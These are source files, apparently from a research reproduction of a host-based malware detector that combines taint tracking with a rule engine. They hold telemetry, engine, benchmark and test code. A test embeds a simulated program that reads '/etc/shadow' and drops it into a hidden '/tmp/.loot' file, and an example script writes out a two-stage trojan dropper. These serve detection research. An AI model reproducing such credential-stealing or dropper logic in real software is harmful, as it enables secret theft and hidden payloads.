        fleet worker streams across the process boundary)."""
        return cls(
            enabled=bool(data["enabled"]),
            metrics=list(data["metrics"]),
            profile=data["profile"],
            span_count=int(data["span_count"]),
        )

    @classmethod
    def merged(
        cls, snapshots: List["TelemetrySnapshot"]
    ) -> "TelemetrySnapshot":
        """Fold many per-run snapshots into one fleet-level snapshot.

        Metric registries merge per :func:`merge_sample_lists`, stage
        profiles via :meth:`StageProfiler.from_dicts`, and span counts
        add.  The result is ``enabled`` iff any input was.
        """
        live = [s for s in snapshots if s is not None]
        profiler = StageProfiler.from_dicts(s.profile for s in live)
        return cls(
            enabled=any(s.enabled for s in live),
            metrics=merge_sample_lists(s.metrics for s in live),
            profile=profiler.to_dict() if profiler is not None else None,
            span_count=sum(s.span_count for s in live),
        )


class Telemetry:
    """The hub: one registry + optional tracer + optional profiler.

    Build with :meth:`enabled` to measure, :meth:`disabled` (the default
    everywhere) for the zero-overhead null wiring.
    """

    def __init__(
        self,
        metrics=None,
        tracer: Optional[SpanTracer] = None,
        profiler: Optional[StageProfiler] = None,
    ) -> None:
        self.metrics = metrics if metrics is not None else NullSink()
        self.tracer = tracer
        self.profiler = profiler

    @classmethod
    def disabled(cls) -> "Telemetry":
        return cls(metrics=NullSink())

    @classmethod
    def enabled(
        cls, trace: bool = False, profile: bool = False
    ) -> "Telemetry":
        return cls(
            metrics=MetricsRegistry(),
            tracer=SpanTracer() if trace else None,
            profiler=StageProfiler() if profile else None,
        )

    @property
    def is_enabled(self) -> bool:
        return bool(getattr(self.metrics, "enabled", False))

    def snapshot(self) -> TelemetrySnapshot:
        return TelemetrySnapshot(
            enabled=self.is_enabled,
            metrics=self.metrics.samples(),
            profile=(
                self.profiler.to_dict() if self.profiler is not None else None
            ),
            span_count=len(self.tracer) if self.tracer is not None else 0,
        )


__all__ = [
    "Telemetry",
    "TelemetrySnapshot",
    "MetricsRegistry",
    "NullSink",
    "merge_sample_lists",
    "render_samples",
    "render_openmetrics",
    "validate_openmetrics",
    "ProvenanceRecorder",
    "render_evidence",
    "EVIDENCE_SCHEMA_VERSION",
    "Counter",
    "Gauge",
    "Histogram",
    "SpanTracer",
    "Span",
    "StageProfiler",
    "STAGES",
    "STAGE_NATIVE",
    "STAGE_BBFREQ",
    "STAGE_DATAFLOW",
    "STAGE_ANALYSIS",
    "CATEGORY_RUN",
    "CATEGORY_PROCESS",
    "CATEGORY_SYSCALL",
    "CATEGORY_ANALYSIS",
]
