"""Forward-chaining inference engine (the CLIPS core, paper section 6.2.1).

Data-driven execution: rules whose LHS is satisfied by the working memory
are *activated*; the agenda orders activations by salience (then recency)
and fires the top one; firing may assert/retract facts, which recomputes
activations.  Refraction guarantees an activation fires at most once for a
given combination of facts, so rules do not loop on stable memory.

The engine also records a fire trace — CLIPS's headline advantage over
black-box classifiers is that "an expert system can give the user all of
the information that was used to reach its conclusion" (section 6.2.1),
and :class:`FiredRule` is exactly that record.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from time import perf_counter
from typing import Any, Callable, Dict, List, Optional, Sequence, Set, Tuple

from repro.expert.conditions import ConditionalElement, match_lhs
from repro.expert.template import Fact, Template


class EngineError(Exception):
    pass


@dataclass
class Rule:
    """A production: LHS conditional elements plus an RHS action."""

    name: str
    lhs: List[ConditionalElement]
    action: Callable[["RuleContext"], None]
    salience: int = 0
    doc: str = ""


@dataclass(frozen=True)
class Activation:
    rule: Rule
    facts: Tuple[Fact, ...]
    bindings: Dict[str, Any] = field(compare=False, hash=False)

    def key(self) -> Tuple[str, Tuple[int, ...]]:
        return (self.rule.name, tuple(f.fact_id for f in self.facts))

    def recency(self) -> int:
        return max((f.recency for f in self.facts), default=0)


@dataclass(frozen=True)
class FiredRule:
    """Trace record: which rule fired on which facts with which bindings."""

    rule_name: str
    fact_ids: Tuple[int, ...]
    bindings: Dict[str, Any]

    def __str__(self) -> str:
        ids = ",".join(f"f-{i}" for i in self.fact_ids)
        return f"FIRE {self.rule_name}: {ids}"


class RuleContext:
    """What an action sees: the engine, its bindings, the matched facts."""

    def __init__(
        self,
        engine: "InferenceEngine",
        bindings: Dict[str, Any],
        facts: Sequence[Fact],
    ) -> None:
        self.engine = engine
        self.bindings = bindings
        self.facts = list(facts)

    def __getitem__(self, var: str) -> Any:
        return self.bindings[var]

    def get(self, var: str, default: Any = None) -> Any:
        return self.bindings.get(var, default)

    def assert_fact(self, fact: Fact) -> Fact:
        return self.engine.assert_fact(fact)

    def retract(self, fact: Fact) -> None:
        self.engine.retract(fact)

    @property
    def context(self) -> Dict[str, Any]:
        return self.engine.context


class InferenceEngine:
    def __init__(self) -> None:
        self.templates: Dict[str, Template] = {}
        self.rules: List[Rule] = []
        self._facts: Dict[int, Fact] = {}
        self._next_fact_id = 1
        self._recency = 0
        self._fired: Set[Tuple[str, Tuple[int, ...]]] = set()
        self.fire_trace: List[FiredRule] = []
        #: Free-form context shared with rule actions (Secpert stores the
        #: warning sink and policy config here).
        self.context: Dict[str, Any] = {}
        #: Rules whose action raised: name -> "ErrorType: message".  A
        #: quarantined rule stops matching (its agenda entries are
        #: skipped) so one bad production cannot crash every subsequent
        #: event; the quarantine survives reset() because the defect is
        #: in the rule, not the working memory.
        self.quarantined: Dict[str, str] = {}
        #: Optional telemetry registry (repro.telemetry.MetricsRegistry).
        #: When set, the engine records facts asserted, per-rule firing
        #: counts, and per-rule action latency.
        self.metrics = None

    # -- definitions ---------------------------------------------------------
    def define_template(self, template: Template) -> Template:
        if template.name in self.templates:
            raise EngineError(f"duplicate template {template.name!r}")
        self.templates[template.name] = template
        return template

    def add_rule(self, rule: Rule) -> Rule:
        if any(r.name == rule.name for r in self.rules):
            raise EngineError(f"duplicate rule {rule.name!r}")
        self.rules.append(rule)
        return rule

    # -- working memory ----------------------------------------------------------
    def assert_fact(self, fact: Fact) -> Fact:
        if fact.name not in self.templates:
            raise EngineError(f"assert of unknown template {fact.name!r}")
        if fact.fact_id is not None:
            raise EngineError(f"fact already asserted: {fact!r}")
        fact.fact_id = self._next_fact_id
        self._next_fact_id += 1
        self._recency += 1
        fact.recency = self._recency
        self._facts[fact.fact_id] = fact
        if self.metrics is not None:
            self.metrics.counter("secpert_facts_asserted_total").inc()
        return fact

    def retract(self, fact: Fact) -> None:
        if fact.fact_id is None or fact.fact_id not in self._facts:
            raise EngineError(f"retract of non-asserted fact {fact!r}")
        del self._facts[fact.fact_id]

    def facts(self, template: Optional[str] = None) -> List[Fact]:
        out = list(self._facts.values())
        if template is not None:
            out = [f for f in out if f.name == template]
        return out

    def clear_facts(self) -> None:
        self._facts.clear()
        self._fired.clear()

    def reset(self) -> None:
        """CLIPS (reset): wipe facts, refraction memory, and trace."""
        self.clear_facts()
        self.fire_trace.clear()

    # -- agenda -----------------------------------------------------------------
    def agenda(self) -> List[Activation]:
        facts = list(self._facts.values())
        activations: List[Activation] = []
        for rule in self.rules:
            if rule.name in self.quarantined:
                continue
            for match in match_lhs(rule.lhs, facts):
                activation = Activation(
                    rule=rule,
                    facts=tuple(match["facts"]),
                    bindings=match["bindings"],
                )
                if activation.key() not in self._fired:
                    activations.append(activation)
        activations.sort(
            key=lambda a: (a.rule.salience, a.recency()), reverse=True
        )
        return activations

    def run(self, limit: int = 10_000) -> int:
        """Fire until quiescent; returns the number of rules fired."""
        fired = 0
        while fired < limit:
            agenda = self.agenda()
            if not agenda:
                break
            activation = agenda[0]
            self._fired.add(activation.key())
            self.fire_trace.append(
                FiredRule(
                    rule_name=activation.rule.name,
                    fact_ids=tuple(f.fact_id for f in activation.facts),
                    bindings=dict(activation.bindings),
                )
            )
            context = RuleContext(self, activation.bindings, activation.facts)
            action_start = perf_counter() if self.metrics is not None else 0.0
            try:
                activation.rule.action(context)
            except Exception as exc:  # noqa: BLE001 - rule containment
                self.quarantined[activation.rule.name] = (
                    f"{type(exc).__name__}: {exc}"
                )
            finally:
                if self.metrics is not None:
                    name = activation.rule.name
                    self.metrics.counter(
                        "secpert_rule_firings_total", rule=name
                    ).inc()
                    self.metrics.histogram(
                        "secpert_rule_latency_seconds", rule=name
                    ).observe(perf_counter() - action_start)
            fired += 1
        else:
            raise EngineError(f"run() exceeded fire limit ({limit})")
        return fired
