"""Telemetry threaded through the whole stack: one monitored run feeds
the registry, the span tree, the profiler, and the RunReport snapshot."""

import json

import pytest

from repro.core.hth import HTH
from repro.isa.assembler import assemble
from repro.telemetry import (
    CATEGORY_ANALYSIS,
    CATEGORY_PROCESS,
    CATEGORY_RUN,
    CATEGORY_SYSCALL,
    Telemetry,
)

#: Reads a seeded secret and drops it into a new file — touches fs
#: syscalls, taints memory, and fires an info-flow rule.
EXFIL_SOURCE = """
main:
    mov ebx, secret
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    mov edi, eax
    mov ebx, esi
    call close
    mov ebx, drop
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, edi
    call write
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
secret: .asciz "/etc/shadow"
drop: .asciz "/tmp/.loot"
buf: .space 64
"""


def run_monitored(telemetry):
    hth = HTH(telemetry=telemetry)
    hth.fs.write_text("/etc/shadow", "root:hash")
    report = hth.run(assemble("/bin/exfil", EXFIL_SOURCE))
    return report


@pytest.fixture(scope="module")
def traced():
    telemetry = Telemetry.enabled(trace=True, profile=True)
    report = run_monitored(telemetry)
    return telemetry, report


class TestMetricsFlow:
    def test_cpu_and_kernel_counters(self, traced):
        telemetry, report = traced
        reg = telemetry.metrics
        assert reg.total("cpu_instructions_total") == (
            report.result.instructions
        )
        assert reg.total("kernel_processes_spawned_total") == 1
        assert reg.total("kernel_process_exits_total") == 1
        assert reg.total("kernel_fs_ops_total") >= 2  # open x2
        assert reg.value("kernel_syscalls_total", name="SYS_open") == 2
        assert reg.value("kernel_syscalls_total", name="SYS_read") == 1

    def test_harrier_counters_match_report(self, traced):
        telemetry, report = traced
        reg = telemetry.metrics
        assert reg.total("harrier_events_emitted_total") == len(
            report.events
        )
        assert reg.total("harrier_events_dropped_total") == (
            report.events_dropped
        )

    def test_taint_gauges_sampled(self, traced):
        telemetry, _ = traced
        reg = telemetry.metrics
        assert reg.total("harrier_tainted_memory_cells") > 0
        assert reg.total("harrier_bb_executions") > 0
        assert reg.total("harrier_taint_sets_live") > 0

    def test_secpert_counters(self, traced):
        telemetry, report = traced
        reg = telemetry.metrics
        assert reg.total("secpert_facts_asserted_total") == len(
            report.events
        )
        assert reg.total("secpert_rule_firings_total") >= 1
        # a latency histogram exists for every rule that fired
        fired = [
            s for s in reg.samples()
            if s["name"] == "secpert_rule_latency_seconds"
        ]
        assert fired and all(s["count"] >= 1 for s in fired)
        assert report.verdict.flagged  # the exfil actually warned


class TestSpanCoverage:
    def test_span_tree_shape(self, traced):
        telemetry, _ = traced
        tracer = telemetry.tracer
        assert len(tracer.by_category(CATEGORY_RUN)) == 1
        assert len(tracer.by_category(CATEGORY_PROCESS)) == 1
        assert all(s.finished for s in tracer.spans)

    def test_every_syscall_has_a_span(self, traced):
        telemetry, _ = traced
        serviced = telemetry.metrics.total("kernel_syscalls_total")
        spans = telemetry.tracer.by_category(CATEGORY_SYSCALL)
        assert len(spans) == serviced > 0

    def test_analysis_spans_parent_on_syscall_spans(self, traced):
        telemetry, report = traced
        tracer = telemetry.tracer
        syscall_ids = {
            s.span_id for s in tracer.by_category(CATEGORY_SYSCALL)
        }
        analysis = tracer.by_category(CATEGORY_ANALYSIS)
        assert len(analysis) == len(report.events)
        assert all(s.parent_id in syscall_ids for s in analysis)

    def test_chrome_export_has_all_spans(self, traced):
        telemetry, _ = traced
        trace = telemetry.tracer.to_chrome_trace()
        complete = [
            e for e in trace["traceEvents"] if e["ph"] == "X"
        ]
        assert len(complete) == len(telemetry.tracer.finished())
        json.dumps(trace)


class TestProfilerFlow:
    def test_stages_attributed(self, traced):
        telemetry, _ = traced
        breakdown = telemetry.profiler.breakdown()
        assert telemetry.profiler.runs == 1
        assert breakdown["native"] > 0
        assert breakdown["dataflow"] > 0
        assert breakdown["bbfreq"] > 0
        assert breakdown["analysis"] > 0


class TestReportSnapshot:
    def test_snapshot_attached_and_queryable(self, traced):
        _, report = traced
        snap = report.telemetry
        assert snap is not None and snap.enabled
        assert snap.span_count > 0
        assert snap.metric_total("cpu_instructions_total") == (
            report.result.instructions
        )
        assert snap.metric(
            "kernel_syscalls_total", name="SYS_read"
        ) == 1

    def test_report_to_json_round_trips(self, traced):
        _, report = traced
        data = json.loads(report.to_json())
        assert data["program"] == "/bin/exfil"
        assert data["verdict"] == "high"
        assert data["result"]["instructions"] > 0
        assert data["telemetry"]["enabled"] is True
        assert data["telemetry"]["span_count"] > 0
        names = {m["name"] for m in data["telemetry"]["metrics"]}
        assert "cpu_instructions_total" in names


class TestDisabledPath:
    def test_default_run_has_no_snapshot(self):
        report = run_monitored(None)
        assert report.telemetry is None
        assert report.verdict.flagged  # detection unaffected

    def test_disabled_hub_collects_nothing(self):
        telemetry = Telemetry.disabled()
        report = run_monitored(telemetry)
        assert report.telemetry is None
        assert telemetry.metrics.samples() == []
        assert telemetry.tracer is None
        assert telemetry.profiler is None

    def test_to_json_without_telemetry(self):
        report = run_monitored(None)
        data = json.loads(report.to_json())
        assert data["telemetry"] is None


class TestMetricsOnlyHub:
    def test_metrics_without_tracer_or_profiler(self):
        telemetry = Telemetry.enabled()
        report = run_monitored(telemetry)
        assert telemetry.tracer is None
        assert telemetry.profiler is None
        assert telemetry.metrics.total("cpu_instructions_total") == (
            report.result.instructions
        )
        snap = report.telemetry
        assert snap is not None and snap.profile is None
        assert snap.span_count == 0
