"""Shared benchmark harness: table rendering, suite runners, result files.

Every ``bench_*`` module regenerates one table or figure from the paper:
it runs the corresponding workloads under HTH, renders the rows in the
paper's layout (expected vs. measured classification), writes the table
to ``benchmarks/results/``, and asserts the measured shape matches.
"""

from __future__ import annotations

import pathlib
from typing import List, Optional, Sequence, Tuple

from repro.core.report import RunReport
from repro.programs.base import Workload

RESULTS_DIR = pathlib.Path(__file__).parent / "results"


def render_table(
    title: str,
    headers: Sequence[str],
    rows: Sequence[Sequence[str]],
) -> str:
    widths = [
        max(len(str(headers[i])), *(len(str(r[i])) for r in rows))
        if rows else len(str(headers[i]))
        for i in range(len(headers))
    ]

    def fmt(row):
        return " | ".join(str(v).ljust(w) for v, w in zip(row, widths))

    sep = "-+-".join("-" * w for w in widths)
    lines = [title, "=" * len(title), fmt(headers), sep]
    lines.extend(fmt(row) for row in rows)
    return "\n".join(lines) + "\n"


def write_result(name: str, text: str) -> pathlib.Path:
    RESULTS_DIR.mkdir(exist_ok=True)
    path = RESULTS_DIR / name
    path.write_text(text)
    return path


def run_workloads(
    workloads: Sequence[Workload],
    telemetry=None,
) -> List[Tuple[Workload, RunReport]]:
    return [(w, w.run(telemetry=telemetry)) for w in workloads]


#: Registry totals every benchmark footprint table reports.
FOOTPRINT_METRICS = (
    ("instructions", "cpu_instructions_total"),
    ("syscalls", "kernel_syscalls_total"),
    ("bb executions", "harrier_bb_executions"),
    ("harrier events", "harrier_events_emitted_total"),
    ("secpert facts", "secpert_facts_asserted_total"),
)


def workload_footprint(workload: Workload) -> dict:
    """Run one workload under an enabled hub; return registry totals.

    The numbers come from the live telemetry registry, not from ad-hoc
    counters in the benchmark — the benchmarks consume the same metrics
    the rest of the stack exposes.
    """
    from repro.telemetry import Telemetry

    telemetry = Telemetry.enabled()
    workload.run(telemetry=telemetry)
    registry = telemetry.metrics
    return {
        label: registry.total(metric)
        for label, metric in FOOTPRINT_METRICS
    }


def classification_rows(
    results: Sequence[Tuple[Workload, RunReport]],
) -> List[Tuple[str, str, str, str, str]]:
    """(name, expected, measured, rules fired, correct?) rows."""
    rows = []
    for workload, report in results:
        rules = ",".join(sorted({w.rule for w in report.warnings})) or "-"
        rows.append(
            (
                workload.name,
                workload.expected_verdict.value,
                report.verdict.value,
                rules,
                "yes" if workload.classified_correctly(report) else "NO",
            )
        )
    return rows


CLASSIFICATION_HEADERS = (
    "benchmark", "paper verdict", "measured", "rules fired", "match"
)


def emit_classification_table(
    title: str,
    filename: str,
    results: Sequence[Tuple[Workload, RunReport]],
) -> str:
    text = render_table(
        title, CLASSIFICATION_HEADERS, classification_rows(results)
    )
    write_result(filename, text)
    print("\n" + text)
    return text


def assert_all_match(results: Sequence[Tuple[Workload, RunReport]]) -> None:
    mismatches = [
        w.name for w, r in results if not w.classified_correctly(r)
    ]
    assert not mismatches, f"classification mismatches: {mismatches}"


def once(benchmark, fn):
    """Run ``fn`` exactly once under pytest-benchmark timing."""
    return benchmark.pedantic(fn, rounds=1, iterations=1, warmup_rounds=0)
