"""Table 3 — information gathered at each instrumentation granularity."""

from benchmarks.harness import once, render_table, write_result
from repro.analysis.instrumentation import GRANULARITY_TABLE


def bench_table3_granularity(benchmark):
    rows = once(
        benchmark,
        lambda: [
            (r.level, r.policy_rule, r.granularity, r.information)
            for r in GRANULARITY_TABLE
        ],
    )
    text = render_table(
        "Table 3: Information gathered in different instrumentation "
        "granularities",
        ("Abstraction level", "Policy rule", "Granularity", "Information"),
        rows,
    )
    write_result("table3_granularity.txt", text)
    print("\n" + text)
    assert len(rows) == 10
