"""Figure 5 — Harrier instrumentation example: the analysis calls
inserted around an original instruction stream."""

from benchmarks.harness import once, write_result
from repro.analysis.instrumentation import render_listing
from repro.isa import assemble

# The figure's original code shape: moves, a branch, then a syscall.
FIGURE5_FRAGMENT = """
main:
    mov eax, edi
    jnz after
    mov ebx, 0
after:
    xor edx, edx
    mov ecx, esi
    mov eax, 5
    int 0x80
"""


def bench_fig5_instrumentation(benchmark):
    image = assemble("/bin/fig5", FIGURE5_FRAGMENT)
    text = once(benchmark, lambda: render_listing(image))
    write_result("fig5_instrumentation.txt", text + "\n")
    print("\nFigure 5: Harrier instrumentation example\n" + text)
    assert "Call Track_DataFlow" in text
    assert "Call Collect_BB_Frequency" in text
    assert "Call Monitor_SystemCalls" in text
