"""Processes and file descriptors."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.isa.cpu import CPU
from repro.isa.memory import FlatMemory
from repro.kernel.filesystem import Node, O_APPEND, O_RDONLY, O_RDWR, O_WRONLY
from repro.kernel.network import Connection, Listener


class ResourceKind(enum.Enum):
    """What a file descriptor refers to — the policy's resource types."""

    FILE = "FILE"
    DIRECTORY = "DIRECTORY"
    FIFO = "FIFO"
    SOCKET = "SOCKET"
    CONSOLE = "CONSOLE"


@dataclass(frozen=True)
class ResourceRef:
    """A (kind, name) pair identifying the resource behind an fd."""

    kind: ResourceKind
    name: str

    def __str__(self) -> str:
        return f"{self.kind.value}:{self.name}"


class SocketState(enum.Enum):
    CREATED = "created"
    BOUND = "bound"
    LISTENING = "listening"
    CONNECTED = "connected"


class OpenFile:
    """A shared file description (dup/fork share the same object)."""

    __slots__ = (
        "kind",
        "name",
        "node",
        "flags",
        "pos",
        "refcount",
        "connection",
        "listener",
        "socket_state",
        "bound_addr",
        "meta",
        "console_role",
    )

    def __init__(
        self,
        kind: ResourceKind,
        name: str,
        node: Optional[Node] = None,
        flags: int = O_RDONLY,
        console_role: Optional[str] = None,
    ) -> None:
        self.kind = kind
        self.name = name
        self.node = node
        self.flags = flags
        self.pos = 0
        self.refcount = 1
        self.connection: Optional[Connection] = None
        self.listener: Optional[Listener] = None
        self.socket_state = SocketState.CREATED
        self.bound_addr: Optional[Tuple[int, int]] = None
        #: Scratch space for the monitor (e.g. origin tags of the name).
        self.meta: Dict[str, object] = {}
        self.console_role = console_role  # 'stdin' | 'stdout' | 'stderr'

    # -- descriptions ------------------------------------------------------
    def resource(self) -> ResourceRef:
        return ResourceRef(self.kind, self.name)

    def readable(self) -> bool:
        if self.kind is ResourceKind.CONSOLE:
            return self.console_role == "stdin"
        accmode = self.flags & 0x3
        return accmode in (O_RDONLY, O_RDWR)

    def writable(self) -> bool:
        if self.kind is ResourceKind.CONSOLE:
            return self.console_role in ("stdout", "stderr")
        accmode = self.flags & 0x3
        return accmode in (O_WRONLY, O_RDWR)

    def appending(self) -> bool:
        return bool(self.flags & O_APPEND)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"OpenFile({self.kind.value}, {self.name!r})"


class ProcessState(enum.Enum):
    RUNNABLE = "runnable"
    SLEEPING = "sleeping"
    BLOCKED = "blocked"
    EXITED = "exited"


@dataclass
class PendingSyscall:
    """A syscall that raised WouldBlock and awaits retry."""

    sysno: int
    args: Tuple[int, int, int, int, int]
    notified: bool = True  # pre-hook already fired


class Process:
    """One guest process."""

    def __init__(
        self,
        pid: int,
        ppid: int,
        memory: FlatMemory,
        cpu: CPU,
        command: str,
        argv: List[str],
        env: Dict[str, str],
        start_time: int = 0,
    ) -> None:
        self.pid = pid
        self.ppid = ppid
        self.memory = memory
        self.cpu = cpu
        self.command = command
        self.argv = list(argv)
        self.env = dict(env)
        self.start_time = start_time
        self.state = ProcessState.RUNNABLE
        self.exit_code: Optional[int] = None
        self.wake_time = 0
        self.pending: Optional[PendingSyscall] = None
        self.fds: Dict[int, OpenFile] = {}
        self.next_fd = 3
        self.brk = 0
        #: Filled by the loader.
        self.image_map: Optional["ImageMap"] = None  # noqa: F821
        #: The translated-block cache for this process's image layout
        #: (None = per-instruction interpretation).  Shared across fork
        #: (plans — including their taint-liveness summaries — are
        #: immutable); swapped by the kernel on execve.
        self.block_cache: Optional["BlockCache"] = None  # noqa: F821
        #: Scratch space for the monitor (shadow state lives here; fork
        #: duplicates it via ``ProcessShadow.copy``, which shares shadow
        #: memory pages copy-on-write between parent and child).
        self.meta: Dict[str, object] = {}
        #: True once the process was killed by monitor/user decision.
        self.killed_by_monitor = False

    # -- fd management -----------------------------------------------------
    def install_fd(self, open_file: OpenFile, fd: Optional[int] = None) -> int:
        if fd is None:
            fd = self.next_fd
            self.next_fd += 1
        self.fds[fd] = open_file
        return fd

    def get_fd(self, fd: int) -> Optional[OpenFile]:
        return self.fds.get(fd)

    def dup_fd(self, fd: int) -> Optional[int]:
        open_file = self.fds.get(fd)
        if open_file is None:
            return None
        open_file.refcount += 1
        return self.install_fd(open_file)

    def remove_fd(self, fd: int) -> Optional[OpenFile]:
        open_file = self.fds.pop(fd, None)
        if open_file is not None:
            open_file.refcount -= 1
        return open_file

    def alive(self) -> bool:
        return self.state is not ProcessState.EXITED

    def environ_text(self) -> str:
        """/proc/<pid>/environ-style rendering (NUL-separated)."""
        return "".join(f"{k}={v}\0" for k, v in self.env.items())

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"Process(pid={self.pid}, cmd={self.command!r}, "
            f"state={self.state.value})"
        )
