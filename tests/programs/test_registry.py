"""The unified workload registry: name/tag lookup over every table,
and the deprecated aliases staying equivalent."""

import pytest

from repro.programs import registry
from repro.programs.registry import (
    REGISTRIES,
    REGISTRY_ORDER,
    entries,
    find,
    get,
    names,
    registry_of,
    registry_workloads,
    workload_tags,
    workloads,
)


class TestRoundTrip:
    def test_every_row_reachable_by_name(self):
        for key, workload in entries(
            REGISTRY_ORDER + ("adversarial",)
        ):
            fetched = get(workload.name)
            assert fetched.name == workload.name
            assert fetched.source == workload.source
            assert registry_of(workload.name) == key

    def test_no_name_collisions_across_registries(self):
        all_names = names(REGISTRY_ORDER + ("adversarial",))
        assert len(all_names) == len(set(all_names))

    def test_default_order_excludes_adversarial(self):
        assert "adversarial" not in REGISTRY_ORDER
        assert "adversarial" in REGISTRIES

    def test_get_unknown_name_raises(self):
        with pytest.raises(LookupError, match="no workload named"):
            get("definitely not a row")

    def test_get_narrowed_to_keys(self):
        assert get("pma", keys=("8",)).name == "pma"
        with pytest.raises(LookupError):
            get("pma", keys=("4",))


class TestTags:
    def test_table8_trojans(self):
        rows = find({"trojan", "table8"})
        assert [w.name for w in rows] == [
            w.name for w in registry_workloads("8")
        ]

    def test_trusted_rows_split_benign_and_low(self):
        # Table 7 is the false-positive study: most rows are benign,
        # a few are expected LOW (the paper's reported false alarms).
        benign = find({"benign"}, keys=("7",))
        low = find({"low"}, keys=("7",))
        assert {w.name for w in low} == {"make", "g++", "xeyes"}
        assert len(benign) + len(low) == len(registry_workloads("7"))

    def test_verdict_value_is_a_tag(self):
        highs = find({"high", "exploit"})
        assert {"ElmExploit", "grabem", "vixie crontab",
                "superforker", "pma"} <= {w.name for w in highs}

    def test_xfail_tag_marks_open_evasions(self):
        open_rows = find({"xfail"})
        assert all(w.xfail for w in open_rows)
        assert "slow-and-low forker" in {w.name for w in open_rows}
        fixed = get("masquerade libc hardcode")
        assert "xfail" not in workload_tags("adversarial", fixed)

    def test_find_requires_every_tag(self):
        assert find({"trojan", "benign"}) == []


class TestDeprecatedAliases:
    """The old import paths must stay equivalent to the unified map."""

    def test_fleet_refs_reexports_the_same_objects(self):
        from repro.fleet import refs

        assert refs.REGISTRIES is REGISTRIES
        assert refs.REGISTRY_ORDER is REGISTRY_ORDER
        assert refs.registry_workloads is registry_workloads

    def test_old_registry_modules_back_the_unified_keys(self):
        from repro.programs.exploits.registry import table8_workloads
        from repro.programs.macro.registry import macro_workloads
        from repro.programs.trusted.registry import table7_workloads

        assert [w.name for w in table8_workloads()] == \
            [w.name for w in registry_workloads("8")]
        assert [w.name for w in table7_workloads()] == \
            [w.name for w in registry_workloads("7")]
        assert [w.name for w in macro_workloads()] == \
            [w.name for w in registry_workloads("macro")]

    def test_workloads_helper_matches_entries(self):
        assert [w.name for w in workloads(("4",))] == names(("4",))
        assert registry.workloads is workloads
