"""The Rete differential: incremental matching changes nothing observable.

The tentpole acceptance property for the incremental matcher: with the
Rete network on (default) or off (``RunOptions(rete=False)``, the
``--no-rete`` escape hatch), Secpert produces bit-identical warnings,
reports, and fire traces — across the paper's full 62-workload matrix,
in serial sessions, sharded fleets, and the serve worker path.
"""

import json

from repro.api import Session
from repro.core.options import RunOptions
from repro.fleet import run_fleet, workload_refs


def _dump(report) -> str:
    return json.dumps(report.to_dict(), sort_keys=True, default=str)


class TestSerialDifferential:
    def test_all_62_workloads_bit_identical(self):
        refs = workload_refs(None)
        assert len(refs) == 62
        rete = Session(RunOptions())
        naive = Session(RunOptions(rete=False))
        for ref in refs:
            workload = ref.resolve()
            a = rete.run_workload(workload)
            b = naive.run_workload(workload)
            assert _dump(a) == _dump(b), \
                f"{ref.module}/{ref.name}: rete report differs from naive"
            assert a.render_warnings() == b.render_warnings(), ref.name

    def test_fire_traces_identical_on_tables_4_and_8(self):
        # The engine-level contract behind the report identity: the
        # exact FiredRule sequence matches, activation by activation.
        from repro.secpert.secpert import Secpert

        fired_anywhere = False
        for ref in workload_refs(["4", "8"]):
            workload = ref.resolve()
            traces = {}
            for flag in (True, False):
                secpert = Secpert(rete=flag)
                workload.run(
                    options=RunOptions(rete=flag), analyzer=secpert
                )
                traces[flag] = [
                    (f.rule_name, f.fact_ids)
                    for f in secpert.engine.fire_trace
                ]
            assert traces[True] == traces[False], ref.name
            fired_anywhere = fired_anywhere or bool(traces[True])
        assert fired_anywhere  # the sweep is not vacuous


class TestFleetDifferential:
    def test_sharded_sweep_bit_identical(self):
        refs = workload_refs(["4", "8"])
        rete = run_fleet(refs, workers=2)
        naive = run_fleet(refs, workers=2, options=RunOptions(rete=False))
        by_name = lambda fleet: {  # noqa: E731
            r.name: json.dumps(r.report, sort_keys=True, default=str)
            for r in fleet.runs
        }
        assert by_name(rete) == by_name(naive)


class TestServeDifferential:
    def test_streaming_worker_path_bit_identical(self):
        # The serve worker builds the streaming Secpert itself
        # (TapAnalyzer) — the rete flag must reach it through the
        # submission options and change nothing observable.
        from repro.serve.protocol import Submission
        from repro.serve.worker import execute_submission

        refs = workload_refs(["8"])
        session = Session()
        for ref in refs:
            outputs = {}
            for flag in (True, False):
                warnings = []
                report, ok, engine = execute_submission(
                    session,
                    Submission(
                        workload=("8", ref.name),
                        options=RunOptions(rete=flag),
                    ),
                    on_warning=lambda seq, w: warnings.append((seq, str(w))),
                )
                outputs[flag] = (_dump(report), ok, warnings)
                assert engine is not None
                assert engine["engine"] == ("rete" if flag else "naive")
            assert outputs[True] == outputs[False], ref.name

    def test_rete_survives_the_wire(self):
        from repro.serve.protocol import Submission, options_from_wire

        sub = Submission(source="nop", options=RunOptions(rete=False))
        wire = sub.to_wire()
        assert wire["options"]["rete"] is False
        assert options_from_wire(wire["options"]).rete is False
        assert options_from_wire({}).rete is True
