#!/usr/bin/env python
"""Cross-session and multi-program hunting (paper §10, items 6-7).

Two staged-Trojan scenarios the single-execution policy handles poorly:

1. **Two-stage trojan across sessions** — session 1 only drops a file
   (the immediate High is *deferred* to a Low tracking notice); session 2
   executes the dropped file and the warning *escalates* to High with the
   full history.
2. **Dropper/launcher pair across programs** — two programs that each
   look benign alone; the correlator flags the staged interaction.

Run:  python examples/cross_session_hunting.py
"""

from repro.isa import assemble
from repro.secpert.correlation import MultiProgramMonitor
from repro.secpert.sessions import CrossSessionMonitor

TWO_STAGE = r"""
; stage 1 (file absent): drop the payload; stage 2 (file present): run it
main:
    mov ebx, dropfile
    mov ecx, 0
    call open
    cmp eax, 0
    jl stage1
    mov ebx, eax
    call close
    mov ebx, dropfile
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
stage1:
    mov ebx, dropfile
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
dropfile: .asciz "/tmp/.stage2"
payload: .asciz "stage two payload"
"""

DROPPER = r"""
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
